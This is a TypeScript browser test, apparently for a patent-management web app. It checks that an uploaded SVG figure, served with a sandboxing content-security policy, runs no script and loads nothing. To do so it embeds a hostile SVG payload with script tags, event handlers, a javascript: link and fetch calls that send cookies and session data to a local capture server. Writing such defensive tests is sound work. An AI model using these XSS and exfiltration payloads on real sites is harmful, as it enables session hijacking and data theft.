import { existsSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium } from 'playwright-core';
import { expect, it } from 'vitest';
import { samplePatent } from '#collections/patents/sample-patent.ts';
import { startTestService } from '#testing/service.ts';

const CHROMIUM = '/usr/bin/chromium';

it.skipIf(!existsSync(CHROMIUM))(
  'a drawing of a record runs no script and loads nothing, opened by itself',
  async () => {
    const heard: string[] = [];
    const foreign = createServer((request, response) => {
      heard.push(request.url!);
      response.end();
    });
    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
    const at = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="50" height="120" onload="fetch('${at}/onload');document.title='run'">
    <script>document.title = 'run'; fetch('${at}/script?' + document.cookie); fetch('/manage/session').then((r) => r.text()).then((t) => fetch('${at}/session?' + t));</script>
    <script href="${at}/foreign.js"/><image href="${at}/image.png" width="9" height="9"/><use href="${at}/use.svg#a"/>
    <style>@import url('${at}/style.css'); circle { fill: url('${at}/fill.svg#a') }</style>
    <circle r="3"/><foreignObject y="60" width="50" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${at}/frame"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="fetch('${at}/onerror')"/></foreignObject>
    <a href="javascript:document.title='run'"><rect id="link" width="50" height="50"/></a></svg>`;
    await using service = await startTestService({
      groups: [],
      corpus: [samplePatent('US29999907A1', { figures: [{ id: 'fig1', svg }] })],
    });
    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
    try {
      const token = await service.users.all.invite({ account_id: service.account_id, role: 'owner' });
      const { cookie } = await service.users.accept(
        { token, name: 'Ann', password: 'correct horse battery' },
        { address: '127.0.0.1', agent: 'test' },
      );
      const context = await browser.newContext();
      await context.addCookies([{ name: 'priora_session', value: cookie, url: service.url }]);
      const page = await context.newPage();
      const reply = await page.goto(`${service.url}/manage/patents/US29999907A1/figures/fig1`);
      expect([reply!.status(), reply!.headers()['content-type'], reply!.headers()['x-content-type-options']]).toEqual([
        200,
        'image/svg+xml; charset=utf-8',
        'nosniff',
      ]);
      expect(reply!.headers()['content-security-policy']).toMatch(/^sandbox; default-src 'none';/);
      await page.locator('#link').click();
      await page.waitForLoadState('networkidle');
      expect([await page.title(), heard]).toEqual(['', []]);
    } finally {
      await browser.close();
      foreign.close();
    }
  },
  120_000,
);
